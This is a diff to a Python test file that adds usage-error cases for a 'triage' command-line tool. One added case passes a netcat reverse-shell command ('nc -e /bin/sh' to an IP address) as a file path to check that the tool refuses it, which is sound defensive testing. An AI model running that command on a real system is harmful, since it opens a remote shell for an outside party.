@@ -205,6 +205,8 @@ class TestUsage:
         [
             (("triage",), "paths"),
             (("triage", "/no/such/file"), "no such file"),
+            (("triage", "nc -e /bin/sh 192.0.2.1"), "a command itself goes to standard input"),
+            (("triage", "nc " * 200), "no such file"),
             (("triage", "{calm}", "--source", "nosuch"), "nosuch"),
             (("triage", "{calm}", "--format", "nosuch"), "nosuch"),
             (("triage", "{calm}", "--fail-on", "nosuch"), "nosuch"),
